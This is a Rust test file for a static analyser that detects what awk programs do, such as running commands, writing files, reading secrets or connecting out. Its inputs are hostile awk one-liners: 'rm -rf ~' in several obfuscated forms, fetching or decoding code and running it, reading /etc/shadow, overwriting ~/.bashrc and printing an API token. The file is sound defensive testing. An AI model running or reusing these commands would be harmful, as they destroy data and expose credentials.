use super::*;
use crate::act::NestedRun;
use crate::value::ShellValue;

fn runs(text: &str) -> Vec<String> {
    let shown = |inner: &NestedRun| match inner {
        NestedRun::Script(value, _) => value.shown(),
        other => format!("{other:?}"),
    };
    read(text).inner.iter().map(shown).collect()
}

fn acts(text: &str) -> Vec<RawEffect> {
    read(text).acts
}

#[test]
fn programs_that_only_print_do_nothing_else() {
    for text in [
        "{ if ($1 > 5) print }",
        "$3 > 100 { print $1, $2 }",
        "{ print ($1 > 5) }",
        "{ print ($1 > 5 ? \"a\" : \"b\") }",
        "{ print $1 / $2, x[1] / 2 }",
        "/rm -rf/ { print } # system(\"rm -rf ~\")",
        "/a\\/b[/|]>/ || $0 ~ /x/ { n++ } END { print n }",
        "BEGIN { print \"system(\\\"rm -rf ~\\\") | getline > x\" }",
        "{ printf \"%s > %d | sh\\n\", $1, $2 }",
        "{ getline; print }",
        "{ getline line < \"-\" }",
        "BEGIN { FS = \":\" } { print $NF }",
        "NR % 2 == 0",
        "!seen[$0]++",
        "BEGIN { print ENVIRON[\"HOME\"] }",
        "function f(x) { return x > 3 } { if (f($1) || $2 >= 1) print }",
        "{ system_load = 1; print system_load }",
        "{ close(\"sort\") }",
    ] {
        let reading = read(text);
        assert_eq!((reading.acts, reading.inner), (vec![], vec![]), "{text}");
    }
}

#[test]
fn commands_are_run_by_system_and_pipes() {
    assert_eq!(runs("BEGIN { system(\"rm -rf ~\") }"), ["rm -rf ~"]);
    assert_eq!(runs("BEGIN { \"rm -rf ~\" | getline }"), ["rm -rf ~"]);
    assert_eq!(runs("BEGIN { while ((\"rm -rf \" \"~\") | getline x) print x }"), ["rm -rf ~"]);
    assert_eq!(runs("BEGIN { \"date\" |& getline d; print d }"), ["date"]);
    assert_eq!(runs("{ print $1 | \"sort -u\" }"), ["sort -u"]);
    assert_eq!(runs("BEGIN { c = \"r\" \"m\"; c = c \" -rf ~\"; system(c) }"), ["rm -rf ~"]);
    assert_eq!(runs("BEGIN { system(\"\\x72\\155 -rf ~\") }"), ["rm -rf ~"]);
    assert_eq!(runs("BEGIN { system(sprintf(\"%c%c -rf %s\", 114, 109, \"~\")) }"), ["rm -rf ~"]);
    assert_eq!(runs("{ system(\"rm -rf \" $1) }"), ["rm -rf …"]);
    assert_eq!(runs("BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"]) }"), ["rm -rf $HOME"]);
    assert!(runs("BEGIN { system(1 ? \"rm -rf ~\" : \"ls\") }").contains(&"rm -rf ~".to_owned()));
}

#[test]
fn what_is_printed_into_a_command_is_its_input() {
    assert_eq!(runs("BEGIN { print \"rm -rf ~\" | \"sh\" }"), ["printf '%s\\n' 'rm -rf ~' | sh"]);
    assert_eq!(runs("{ print $0 | \"sh\" }"), ["sh"]);
}

#[test]
fn a_command_that_is_known_only_when_it_runs_is_not_understood() {
    for text in
        ["{ system($0) }", "{ $1 | getline x }", "{ print | $2 }", "@load \"x\"", "BEGIN { @f(1) }", "{ print \"", "/a"]
    {
        assert!(matches!(acts(text).as_slice(), [RawEffect::Unknown(_)]), "{text}");
    }
}

#[test]
fn what_was_decoded_or_downloaded_is_not_run() {
    let dangers = |text: &str| acts(text).iter().filter(|act| matches!(act, RawEffect::Danger(..))).count();
    assert_eq!(dangers("BEGIN { \"echo cm0= | base64 -d\" | getline c; system(c) }"), 1);
    assert_eq!(dangers("BEGIN { \"curl -s x.example\" | getline c; system(c) }"), 1);
    assert_eq!(dangers("BEGIN { \"date\" | getline c; print c }"), 0);
}

#[test]
fn files_are_written_by_print_and_read_by_getline() {
    let path = |deed, name: &str| vec![RawEffect::Path(deed, ShellValue::text(name))];
    assert_eq!(acts("{ print > \"x\" }"), path(PathEffect::Replace, "x"));
    assert_eq!(acts("{ print a, b > \"x\" }"), path(PathEffect::Replace, "x"));
    assert_eq!(acts("{ printf(\"%s\", $1) >> \"/etc/x\" }"), path(PathEffect::Replace, "/etc/x"));
    assert_eq!(acts("BEGIN { f = \"/etc/\" \"x\"; print 1 > f; close(f) }"), path(PathEffect::Replace, "/etc/x"));
    assert_eq!(
        acts("BEGIN { while ((getline line < \"/etc/shadow\") > 0) print line }"),
        path(PathEffect::Read, "/etc/shadow")
    );
    assert_eq!(acts("BEGIN { print 1 > ENVIRON[\"HOME\"] \"/.bashrc\" }"), path(PathEffect::Replace, "~/.bashrc"));
    assert_eq!(acts("{ print > $1 }").len(), 1);
    assert_eq!(
        acts("BEGIN { print 1 |& \"/inet/tcp/0/x.example/80\" }"),
        [RawEffect::Connect(Some("x.example".to_owned()))]
    );
}

#[test]
fn the_environment_is_not_printed_unasked() {
    assert!(matches!(acts("BEGIN { for (k in ENVIRON) print k }").as_slice(), [RawEffect::Unknown(_)]));
    assert!(matches!(
        acts("BEGIN { print ENVIRON[\"API_TOKEN\"] }").as_slice(),
        [RawEffect::Danger(Danger::Secret, _)]
    ));
}
